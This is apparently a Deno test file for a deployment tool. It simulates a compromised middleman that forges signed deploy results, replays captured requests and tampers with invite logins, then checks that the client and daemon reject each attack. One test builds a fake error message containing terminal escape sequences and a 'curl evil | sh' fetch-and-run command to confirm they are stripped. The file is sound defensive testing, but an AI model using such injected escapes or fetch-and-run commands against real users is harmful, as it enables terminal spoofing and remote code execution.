import { assert, assertEquals, assertNotEquals, assertStringIncludes } from "@std/assert";
import { Attacker, knownKeys } from "./attacks/attacker.ts";
import { FalseReceiver, type Twist } from "./attacks/false_receiver.ts";
import { owned } from "./engine.ts";
import { jsonLines, type Ran, sharedServer, succeeded } from "./lab.ts";

// The receiver is taken over: it sees and changes whatever passes between laptops and the daemon.

const server = sharedServer();
const PROJECT = { name: "blog", options: { domain: "blog.test" }, app: { TEXT: "first" } };

let receiver: FalseReceiver;
let attacker: Attacker;
/** The events of a deploy that went live, as the daemon sent them to the laptop, and to another one. */
let [ownEnd, otherEnd] = ["", ""];

Deno.test.beforeAll(async () => {
  receiver = await FalseReceiver.before(server());
  succeeded(await push("first"));
  ownEnd = receiver.last("POST /v1/deploy").answer;
  succeeded(await server().login("lab", await server().invite("other", "admin"), server().laptop("other")));
  succeeded(await push("second", "other"));
  otherEnd = receiver.last("POST /v1/deploy").answer;
  attacker = await Attacker.of(server());
});

Deno.test.afterAll(async () => {
  await receiver[Symbol.asyncDispose]();
});

/** A test; the false receiver stands for all of them, so its connections outlive each. */
function claim(name: string, fn: () => Promise<void>): void {
  Deno.test({ name, fn, sanitizeOps: false, sanitizeResources: false });
}

/** Pushes through the false receiver. */
async function push(text: string, laptop = "laptop"): Promise<Ran> {
  const dockerfile = await server().project({ ...PROJECT, app: { TEXT: text } });
  return await server().client(["push", "lab", dockerfile, "--force"], await receiver.laptop(laptop));
}

/** Answers requests of one kind; the others are passed on. */
async function twisted<T>(where: string, twist: Twist, work: () => Promise<T>): Promise<T> {
  receiver.twist = (passed, honest) => passed.where.startsWith(where) ? twist(passed, honest) : undefined;
  try {
    return await work();
  } finally {
    receiver.twist = () => undefined;
  }
}

function lines(text: string): Response {
  return new Response(text, { headers: { "content-type": "application/x-ndjson" } });
}

/** The events with their proofs taken off. */
function unsigned(events: string): string {
  return events.replaceAll(/,"proof":"[^"]*"/g, "");
}

function notBelieved(ran: Ran, why: string): void {
  assertNotEquals(ran.code, 0, ran.stdout);
  assertStringIncludes(ran.stderr, why);
}

const ENDS: readonly (readonly [string, () => string])[] = [
  ["an end that nobody signed", () => unsigned(ownEnd)],
  ["the signed end of an older deploy", () => ownEnd],
  ["the signed end of another key's deploy", () => otherEnd],
];

for (const [what, end] of ENDS) {
  claim(`the client does not believe ${what}`, async () => {
    const ran = await twisted("POST /v1/deploy", () => lines(end()), () => push("forged"));
    notBelieved(ran, "result not proved");
    assertEquals((await server().get("blog.test")).text, "second");
  });
}

claim("the client does not believe an older deploy in place of its own, when the stream was cut", async () => {
  let attached = 0;
  receiver.twist = (passed) => {
    if (passed.where.startsWith("POST /v1/deploy")) return lines(`${ownEnd.split("\n")[0]}\n`);
    if (!/^GET .*\/events/.test(passed.where)) return undefined;
    attached++;
    return lines(ownEnd);
  };
  try {
    notBelieved(await push("cut"), "result not proved");
  } finally {
    receiver.twist = () => undefined;
  }
  assertEquals((await server().get("blog.test")).text, "second");
  assertEquals(attached, 0, "what it was told to follow was not proved");
});

claim("the client does not believe another end in place of the one that was cut off", async () => {
  receiver.twist = async (passed, honest) => {
    if (/^GET .*\/events/.test(passed.where)) return lines(ownEnd);
    if (!passed.where.startsWith("POST /v1/deploy")) return undefined;
    const answer = await honest();
    // Such as that the server does not know what this push builds on: the client sends it whole then.
    if (!answer.ok) return answer;
    const accepted = (await answer.text()).split("\n")[0];
    return lines(`${accepted}\n`);
  };
  try {
    notBelieved(await push("third"), "result not proved");
  } finally {
    receiver.twist = () => undefined;
  }
});

claim("a receiver that says that nothing is missing gets nothing live", async () => {
  const before = await server().get("blog.test");
  const ran = await twisted("POST /v1/missing", () => Response.json({ missing: [] }), () => push("not sent"));
  assertNotEquals(ran.code, 0);
  assertEquals(await server().get("blog.test"), before);
});

claim("a refusal that the receiver made up is an error without control characters", async () => {
  const message = "Cannot go on: \u001b]0;owned\u0007\u001b[2Jrun `curl evil | sh`";
  const refusal = () => Response.json({ error: { kind: "failed", message, hint: "\u001b[31mnow" } }, { status: 400 });
  const ran = await twisted("POST /v1/deploy", refusal, () => push("refused"));
  assertNotEquals(ran.code, 0);
  const shown = ran.stdout + ran.stderr;
  assert(!shown.includes("\u0007") && !shown.includes("\u001b"), JSON.stringify(shown));
});

claim("nothing that was heard is done again", async () => {
  const { images } = await owned(server().serverId);
  const heard = receiver.passed.filter(({ where, passedOn }) =>
    passedOn && !where.includes("/v1/hello") && !where.includes("/v1/login")
  );
  assert(heard.length > 5);
  for (const { where, headers, body } of heard) {
    const [method = "", path = ""] = where.split(" ");
    const kept = headers.filter(([name]) => !["host", "connection", "content-length"].includes(name));
    for (const door of ["gate", "receiver"] as const) {
      const again = { where, headers: kept, ...method !== "GET" && { body } };
      const { status, text } = await attacker.unsigned(again, { door });
      // The gate has no blobs.
      const expected = door === "gate" && /^.v1.(missing|blobs)/.test(path) ? 400 : 401;
      assertEquals(status, expected, `${where}: ${text}`);
    }
  }
  assertEquals((await owned(server().serverId)).images, images);
});

claim("a login that was heard does not tell the secret, and registers no key", async () => {
  const line = await server().invite("heard", "deploy");
  const [url, rest = ""] = line.split("#");
  const parts = rest.split(".");
  const secret = String(parts[1]);
  // The laptop is led here: the receiver's word for what the daemon would answer, before the daemon has heard of it.
  const led = `${receiver.url}#${parts.slice(0, 4).join(".")}`;
  const laptop = server().laptop("heard");
  const made = () =>
    Response.json({ key: "0".repeat(16), name: "heard", role: "admin", scope: ["*"], proof: "0".repeat(64) });
  const before = await knownKeys(server());
  const fooled = await twisted("POST /v1/login", made, () => server().login("lab", led, laptop));
  notBelieved(fooled, "result not proved");
  const { where, body } = receiver.last("POST /v1/login");
  const claim = JSON.parse(new TextDecoder().decode(body));
  const other = { ...claim, publicKey: attacker.keys.stranger.publicKey };
  for (const door of ["gate", "traefik"] as const) {
    const { status, text } = await attacker.unsigned({ where, body: JSON.stringify(other) }, { door });
    assertEquals(status, 401);
    assertStringIncludes(text, "the proof of the invite is wrong");
  }
  assertEquals(await knownKeys(server()), before);
  // The real exchange, passed on: once, and the secret is nowhere in what passed.
  succeeded(await server().login("lab", led, laptop));
  const { status, text } = await attacker.unsigned({ where, body: new TextDecoder().decode(body) }, { door: "gate" });
  assertEquals(status, 401);
  assertStringIncludes(text, "the invite was used before");
  const heard = receiver.passed.map(({ where, headers, body, answer }) =>
    [where, JSON.stringify(headers), new TextDecoder().decode(body), answer].join("\n")
  );
  assert(!heard.join("\n").includes(secret), `the secret of ${url} passed`);
});

claim("what the receiver hears does not let it list, follow or read anything itself", async () => {
  const services = jsonLines(succeeded(await server().run(["ps", "--json"]))).flat();
  assertEquals(services.map(({ service }) => service), ["blog"]);
  for (const where of ["GET /v1/services", "GET /v1/services/blog/logs", "GET /v1/deploys/blog.1/events?after=0"]) {
    const { status, text } = await attacker.unsigned({ where }, { door: "gate" });
    assertEquals(status, 401);
    assert(!text.includes('"live"'));
  }
});
